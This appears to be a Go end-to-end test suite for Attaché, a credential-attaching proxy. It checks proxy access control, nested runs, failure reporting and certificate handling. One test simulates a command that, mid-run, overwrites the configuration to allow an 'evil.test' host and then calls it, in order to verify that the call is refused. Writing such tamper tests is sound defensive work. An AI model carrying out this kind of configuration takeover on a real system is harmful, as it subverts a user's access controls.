package e2e

import (
	"encoding/json"
	"errors"
	"net/http"
	"os"
	"os/exec"
	"runtime"
	"strings"
	"testing"
	"unicode/utf8"
)

// TestRunServesNobodyElse: a run's proxy serves who knows its token and, on Linux, its own user; nobody else.
func TestRunServesNobodyElse(t *testing.T) {
	t.Parallel()
	curl := need(t, "curl")
	r := plainRunner(t)
	// curl prints what became of its CONNECT. The bare URL has no user and no password in it.
	const script = `
bare=http://${HTTPS_PROXY#*@}
code() { "$@" -sk -o /dev/null -w "%{http_connect}\n" https://api.test/; }
echo "token $(code "$CURL")"
echo "bare $(code "$CURL" --proxy $bare)"
echo "wrong $(code "$CURL" --proxy http://run:wrong@${bare#http://})"
echo "other $(code $AS "$CURL" --proxy $bare)"
echo "other with token $(code $AS "$CURL" --proxy $HTTPS_PROXY)"
`
	r.env = append(r.env, "CURL="+curl)
	linux := runtime.GOOS == "linux"
	if root := os.Geteuid() == 0; linux && root {
		r.env = append(r.env, "AS="+need(t, "setpriv")+" --reuid 65534 --clear-groups")
	}
	out, err := r.attache("run", "-q", "--", "sh", "-c", script)
	ok(t, err)
	wants := map[string]string{"token": "200", "wrong": "407"}
	if linux {
		wants["bare"] = "200"
		if os.Geteuid() == 0 {
			wants["other"], wants["other with token"] = "407", "200"
		}
	} else {
		wants["bare"] = "407"
	}
	for who, want := range wants {
		if !strings.Contains(out, who+" "+want+"\n") {
			t.Errorf("%s: want %s in\n%s", who, want, out)
		}
	}
}

// TestRepositoryTakeoverMidRun: what the command does to the configuration changes nothing about its own
// run, and the next one refuses.
func TestRepositoryTakeoverMidRun(t *testing.T) {
	t.Parallel()
	curl := need(t, "curl")
	r := plainRunner(t)
	r.write("evil.yaml", strings.ReplaceAll(r.config, "hosts: api.test", "hosts: [api.test, evil.test]"))
	r.env = append(r.env, "CURL="+curl)
	out, err := r.attache("run", "-o", "json", "--", "sh", "-c", `
cp evil.yaml attache.yaml
for i in 1 2 3 4 5; do
	"$CURL" -s https://api.test/ >/dev/null || echo "api.test: $?"
	"$CURL" -s https://evil.test/ && echo "evil.test answered"
	sleep 0.2
done
true`)
	ok(t, err)
	var res struct{ Allowed, Refused int }
	lines := strings.Split(strings.TrimSpace(out), "\n")
	ok(t, json.Unmarshal([]byte(lines[len(lines)-1]), &res))
	if len(lines) != 1 || res.Allowed != 5 || res.Refused != 5 {
		t.Errorf("%+v\n%s", res, out)
	}
	out, err = r.attache("run", "--", "true")
	if exit, is := errors.AsType[*exec.ExitError](err); !is || exit.ExitCode() != 125 {
		t.Errorf("the changed file: %v\n%s", err, out)
	}
}

const callerRule = `version: 1
secrets: {key: {file: key}, ci-token: {file: key}}
callers: {ci: {token: ci-token}}
rules:
  - {id: api, hosts: api.test, callers: ci, attach: {bearer: key}, upstream: {connect_to: "@site", ca: "@siteca"}}
`

// TestRunAs: a rule that is for certain callers is not for the command, unless it runs as one of them.
func TestRunAs(t *testing.T) {
	t.Parallel()
	curl := need(t, "curl")
	r := newRunner(t, callerRule, siteOptions{})
	out, err := r.attache("run", "-q", "--", curl, "-sS", "https://api.test/")
	if !strings.Contains(out, "caller_not_allowed") || !strings.Contains(strings.Join(strings.Fields(out), " "), "rule api is for ci: attache run --as ci -- curl") {
		t.Errorf("%v\n%s", err, out)
	}
	r.site.untouched(t)
	out, err = r.attache("run", "-q", "--as", "ci", "--", curl, "-sS", "https://api.test/")
	ok(t, err)
	r.prints(out)
}

// TestRunsSideBySide: a run within a run has a proxy and a CA of its own.
func TestRunsSideBySide(t *testing.T) {
	t.Parallel()
	curl := need(t, "curl")
	r := newRunner(t, strings.Replace(runRule, "version: 1", "version: 1\nlisten: {proxy: \"127.0.0.1:15001\"}\nca: {publish: trust, state: ca}", 1), siteOptions{})
	r.env = append(r.env, "CURL="+curl, "ATTACHE="+os.Getenv(envBinary))
	out := r.run("sh", "-c", `"$CURL" -sS https://api.test/; "$ATTACHE" run -q -- "$CURL" -sS https://api.test/; "$CURL" -sS https://api.test/`)
	if n := strings.Count(out, "auth-sha256="+fingerprint("Bearer "+r.key)); n != 3 {
		t.Errorf("%d answers\n%s", n, out)
	}
	for _, name := range []string{"trust", "ca"} {
		if _, err := os.Stat(r.dir + "/" + name); err == nil {
			t.Errorf("%s was written", name)
		}
	}
}

const failingRules = `version: 1
secrets: {key: {file: key}, gone: {file: gone}}
rules:
  - {id: api, hosts: api.test, attach: {bearer: key}, upstream: {connect_to: "@site", ca: "@siteca"}}
  - {id: down, hosts: down.test, attach: {bearer: key}, upstream: {connect_to: "127.0.0.1:1"}}
  - {id: lost, hosts: lost.test, attach: {bearer: gone}}
  - {id: no-deletes, hosts: deny.test, deny: "Ask #payments."}
`

// TestRunTellsWhatFailed: the summary says of each kind of failure whose it is and what helps.
func TestRunTellsWhatFailed(t *testing.T) {
	t.Parallel()
	curl := need(t, "curl")
	r := newRunner(t, failingRules, siteOptions{Handler: func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusUnauthorized) }})
	r.env = append(r.env, "CURL="+curl, "SITECA="+r.site.ca)
	out, err := r.attache("run", "--", "sh", "-c", `
for url in api.test api.test down.test lost.test deny.test; do "$CURL" -s -o /dev/null https://$url/; done
"$CURL" -s --cacert "$SITECA" https://api.test/
exit 7`)
	if exit, is := errors.AsType[*exec.ExitError](err); !is || exit.ExitCode() != 7 {
		t.Errorf("%v", err)
	}
	text := strings.ReplaceAll(out, "\nattache:", "")
	text = strings.Join(strings.Fields(text), " ")
	for _, want := range []string{
		"gone cannot be read: not found", "rule lost will answer 503",
		"sh exited 7 after", "2 calls allowed, 3 refused, 1 failed",
		"not taken 2x GET api.test answered_401", "is what rule api attaches still good?",
		"failed 1x GET down.test connect_failed", "a proxy was set in your environment; Attaché goes through it only as egress.via",
		"refused 1x GET lost.test credential_missing attache check --resolve tells more",
		"denied_by_rule Ask #payments.",
		"client_handshake its client does not trust Attaché's CA",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("not told: %s", want)
		}
	}
	for line := range strings.Lines(out) {
		if n := utf8.RuneCountInString(strings.TrimRight(line, "\n")); n > 80 {
			t.Errorf("%d columns: %s", n, line)
		}
	}
	if t.Failed() {
		t.Log(out)
	}
}

const tunnelRule = `version: 1
rules: [{id: corp, hosts: corp.test, tunnel: true, upstream: {connect_to: "@site"}}]
`

// TestRunKeepsTheUsersRoots: the variables that name roots of the user's own are overridden, and those
// roots still trusted: connections that are passed through show the upstream's certificate.
func TestRunKeepsTheUsersRoots(t *testing.T) {
	t.Parallel()
	curl := need(t, "curl")
	r := newRunner(t, tunnelRule, siteOptions{Names: []string{"corp.test"}})
	out, err := r.attache("run", "-q", "--", curl, "-sS", "https://corp.test/")
	if err == nil || !strings.Contains(out, "certificate") {
		t.Errorf("without them: %v\n%s", err, out)
	}
	r.env = append(r.env, "SSL_CERT_FILE="+r.site.ca)
	out, err = r.attache("run", "-q", "--", curl, "-sS", "https://corp.test/")
	if err != nil || !strings.Contains(out, "auth-sha256=") {
		t.Errorf("with them: %v\n%s", err, out)
	}
}
